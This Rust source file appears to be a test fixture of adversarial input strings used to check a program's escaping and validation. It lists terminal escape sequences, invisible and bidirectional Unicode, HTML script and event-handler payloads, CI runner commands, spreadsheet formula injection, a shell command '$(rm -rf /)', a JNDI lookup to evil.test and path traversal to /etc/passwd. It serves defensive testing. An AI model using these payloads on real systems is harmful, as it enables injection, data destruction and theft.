//! Texts that try to act: on a terminal, on a reader's eye, on a page, on the
//! runner of a pipeline, on a spreadsheet or on another program's parser. What
//! once got through anywhere is added here and stays.

/// Each with what it tries.
pub(crate) const TEXTS: [(&str, &str); 78] = [
    // Terminals.
    ("clears the screen", "Ann\u{1b}[2J\u{1b}[H"),
    ("colours", "\u{1b}[31mred\u{1b}[0m"),
    ("sets the window's title", "\u{1b}]0;pwned\u{7}Ann"),
    (
        "a hyperlink (OSC 8)",
        "\u{1b}]8;;https://evil.test\u{1b}\\Ann\u{1b}]8;;\u{1b}\\",
    ),
    ("writes the clipboard (OSC 52)", "\u{1b}]52;c;cHduZWQ=\u{7}"),
    ("asks the terminal for an answer", "\u{1b}[6n\u{1b}[c"),
    ("a device control string", "\u{1b}P$q\"p\u{1b}\\"),
    ("C1 control sequence", "Ann\u{9b}2J"),
    ("C1 operating system command", "\u{9d}0;pwned\u{9c}"),
    ("C1 next line", "Ann\u{85}Bob"),
    ("backspaces", "root\u{8}\u{8}\u{8}\u{8}Ann"),
    ("a carriage return", "rejected\rapproved"),
    ("a bell and a null", "Ann\u{7}\u{0}"),
    ("delete", "Ann\u{7f}"),
    // Lines.
    ("a line feed", "Ann\n- id: root"),
    ("both line ends", "Ann\r\nSet-Cookie: a=b"),
    ("separators of lines and paragraphs", "Ann\u{2028}Bob\u{2029}Cid"),
    ("a vertical tab and a form feed", "Ann\u{b}Bob\u{c}Cid"),
    ("a tab", "Ann\tBob"),
    // Eyes.
    ("right-to-left override", "Ann\u{202e}gpj.exe"),
    ("embeddings", "\u{202a}Ann\u{202b}Bob\u{202c}"),
    ("isolates", "\u{2066}Ann\u{2067}Bob\u{2069}"),
    ("marks of direction", "\u{200e}Ann\u{200f}\u{61c}"),
    ("zero width", "Ad\u{200b}m\u{200c}i\u{200d}n\u{2060}\u{feff}"),
    ("a soft hyphen and a joiner", "Ad\u{ad}m\u{34f}in"),
    (
        "tags, which spell unseen words",
        "Ann\u{e0001}\u{e0041}\u{e0042}\u{e007f}",
    ),
    ("selectors of variants", "Ann\u{fe0f}\u{fe00}\u{e0100}"),
    (
        "blanks that are none",
        "Ann\u{a0}Bob\u{2800}\u{3164}\u{1680}\u{205f}x",
    ),
    ("fillers", "\u{115f}\u{1160}\u{ffa0}x"),
    ("letters that look alike", "Аdmin ᴀdmin ａdmin"),
    ("a mark on what stands before", "\u{338}Ann"),
    ("marks that enclose", "A\u{20dd}n\u{20e0}n\u{489}"),
    ("a ligature and wide forms", "ﷺ ﷽ ＜ｂ＞"),
    ("non-characters", "Ann\u{fffe}\u{ffff}\u{1fffe}"),
    ("private use", "Ann\u{e000}\u{f8ff}\u{100000}"),
    // Markdown.
    ("a link", "[Ann](https://evil.test)"),
    ("an image", "![Ann](https://evil.test/x.png)"),
    (
        "an autolink",
        "<https://evil.test> https://evil.test www.evil.test",
    ),
    ("mentions", "@org/team @everyone @jane"),
    ("references", "#1 GH-1 org/repo#1 !7 &3 %2"),
    ("a fence", "``` sh rm -rf / ```"),
    ("the end of a span", "a`b``c```d"),
    ("the end of a cell", "a|b||c \\| d"),
    ("emphasis", "**Ann** __Bob__ ~~Cid~~ ==x=="),
    ("a formula", "$\\href{https://evil.test}{x}$ $`x`$"),
    ("a note and a task", "[^1] - [x] Ann"),
    ("a heading in the middle", "Ann # Bob ## Cid"),
    ("the end of what is folded", "</details></summary> Ann"),
    ("a comment", "<!-- whop-sync:production:biz_x --> Ann --!>"),
    ("quick actions", "/approve /merge /close"),
    ("an emoji by name", ":rocket: :+1:"),
    // HTML.
    ("a script", "<script>alert(1)</script>"),
    ("an image's handler", "<img src=x onerror=alert(1)>"),
    ("a style", "<style>*{display:none}</style>"),
    (
        "the end of an attribute",
        "\"><svg onload=alert(1)>' onmouseover='x",
    ),
    ("entities", "&lt;b&gt; &#x3c;b&#62; &amp;amp;"),
    (
        "a frame and a base",
        "<iframe src=//evil.test><base href=//evil.test>",
    ),
    ("the end of a script", "</script></style></title></textarea>"),
    // Runners of pipelines.
    ("sets an output", "::set-output name=x::y"),
    ("masks a word", "::add-mask::Ann"),
    ("stops commands", " ::stop-commands::x"),
    ("an error of theirs", "\u{3000}::error file=a,line=1::pwned"),
    ("a command anywhere", "Ann ##[set-env name=PATH]x"),
    ("a group", "##[group]Ann"),
    ("another runner's", "##vso[task.setvariable variable=x]y"),
    ("a third runner's", "##teamcity[buildStatus text='x']"),
    ("a section", "section_start:1:x section_end:1:x"),
    // Spreadsheets.
    (
        "a formula for spreadsheets",
        "=HYPERLINK(\"https://evil.test\",\"Ann\")",
    ),
    ("a formula by its other signs", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3"),
    ("at", "@SUM(1)"),
    ("wide signs", "＝1+1"),
    // Parsers.
    ("YAML's own", "&a *a !!python/object {a: [b, c]} # d"),
    ("a new entry", "x: y - z ? k | >-"),
    ("a shell", "$(rm -rf /) `id` ; && || > x"),
    ("a format", "{0} {} %s %n ${jndi:ldap://evil.test}"),
    ("a path", "../../etc/passwd ..\\..\\x"),
    ("quotes and backslashes", "\\\"\\u0041\\x41\\u{202e}'\\"),
];

/// All of them, and those that are long.
pub(crate) fn texts() -> Vec<String> {
    let long = [
        format!("Z{}algo", "\u{301}".repeat(1_000)),
        format!("Z{}", "\u{336}\u{489}\u{20d2}".repeat(30)),
        "long ".repeat(20_000),
        "長".repeat(50_000),
        "a".repeat(100),
    ];
    let all = TEXTS.iter().map(|(_, text)| (*text).to_owned());
    all.chain(long).collect()
}

/// Those that can be a value of at most so many characters in a manifest,
/// which refuses control characters and blanks around.
pub(crate) fn values(most: usize) -> Vec<String> {
    let fits = |text: &String| {
        text.trim() == text && text.chars().count() <= most && !text.chars().any(char::is_control)
    };
    let trimmed = texts().into_iter().map(|text| text.trim().to_owned());
    trimmed.filter(fits).collect()
}
